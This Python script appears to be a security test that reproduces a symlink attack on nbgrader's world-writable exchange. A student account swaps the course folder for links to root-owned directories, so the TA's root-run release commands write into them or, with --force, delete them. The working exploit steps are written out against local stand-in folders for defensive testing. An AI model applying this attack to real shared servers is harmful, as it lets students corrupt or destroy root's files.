"""a03: the exchange's root is every student's to write (nbgrader's docs: `chmod ugo+rw /srv/nbgrader/exchange`;
`nbgrader submit` checks it is writable by the student). The course guards `collect` and `list` (SafeCollect,
SafeList), but not `nbgrader release_assignment` nor `release_feedback`, which the TA runs as root: nbgrader's
ensure_directory() accepts an existing <root>/<course> (and outbound/, feedback/) if os.stat, following links, says
root owns it. Mallory (uid 65534) moves the TA's exchange/distcourse aside (the root is 0777, not sticky, as the
docs make it) or squats the name before the first release, and puts links in its place:
    exchange/distcourse -> .          (the exchange root itself: root-owned)
    exchange/outbound   -> VICTIM     (any root-owned folder)
    exchange/feedback   -> VICTIM2
The TA then runs, as root, in the course folder, `nbgrader release_assignment ps1_memory` (and, a second case, with
--force, which rmtree()s the destination first), and `nbgrader release_feedback ps1_memory`."""
import os, subprocess, shutil, sys, json, glob
from harness import *

ROOT = "/tmp/attack46-root-a03-ex"
shutil.rmtree(ROOT, ignore_errors=True)
d = course("a03")
ex = f"{ROOT}/exchange"
os.makedirs(ex)
os.chmod(ex, 0o777)            # as nbgrader's docs set it up
os.chmod(ROOT, 0o755)
victim = "tests/attacks/round46/a03_victim_rootdir"   # stands for /etc, /root/.ssh, /usr/lib/...: root's, outside the course
victim2 = "tests/attacks/round46/a03_victim_rootdir2"
for v in (victim, victim2):
    shutil.rmtree(v, ignore_errors=True); os.makedirs(v, mode=0o755)
NB = ["--Exchange.root=" + ex, "--CourseDirectory.course_id=distcourse"]
def ta(*args):
    r = subprocess.run([f"{CLONE}/.venv/bin/nbgrader", *args, *NB], cwd=d, env=ENV, capture_output=True, text=True)
    print("$ nbgrader", " ".join(args), "->", r.returncode)
    print("   ", (r.stdout + r.stderr).strip().replace("\n", "\n    ")[-1500:])
    return r
def student(script):
    r = subprocess.run(["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", sys.executable, "-c", script],
                       capture_output=True, text=True, env={"PATH": "/usr/bin:/bin"})
    print("student:", r.returncode, r.stdout.strip(), r.stderr.strip()[-500:])

print("== 1. the TA released once: exchange/distcourse is root's")
ta("release_assignment", "ps1_memory")
print(subprocess.run(["ls", "-la", ex, ex + "/distcourse"], capture_output=True, text=True).stdout)
print("== 2. mallory (uid 65534) moves it aside and links the names")
student(f'''
import os
os.rename("{ex}/distcourse", "{ex}/moved-by-mallory")
os.symlink(".", "{ex}/distcourse")
os.symlink("{victim}", "{ex}/outbound")
os.symlink("{victim2}", "{ex}/feedback")
print(sorted(os.listdir("{ex}")))
''')
print("== 3. the TA releases again (Formgrader's Release button / make release of a fixed notebook)")
ta("release_assignment", "ps1_memory")
print("victim now:", subprocess.run(["find", victim, "-ls"], capture_output=True, text=True).stdout)
print("== 4. a folder of root's that the TA cares about, behind the link: --force rmtree()s it")
keep = f"{victim}/ps1_memory/important-root-file.txt"
open(keep, "w").write("root's data\n")
ta("release_assignment", "ps1_memory", "--force")
print("important-root-file.txt still there:", os.path.exists(keep))
print("== 5. release_feedback: a graded class first (aaron honest, mallory honest, zoe honest)")
for s in ("aaron", "mallory", "zoe"):
    hand_in(d, s, "ps1_memory", nb_for("ps1_memory"))
r = grade(d, "ps1_memory")
scores(d, "ps1_memory")
ta("release_feedback", "ps1_memory")
print("victim2 now:", subprocess.run(["find", victim2, "-ls"], capture_output=True, text=True).stdout)
print("inbound made world-writable where?", subprocess.run(["ls", "-la", ex], capture_output=True, text=True).stdout)
shutil.rmtree(ROOT, ignore_errors=True); shutil.rmtree(d, ignore_errors=True)
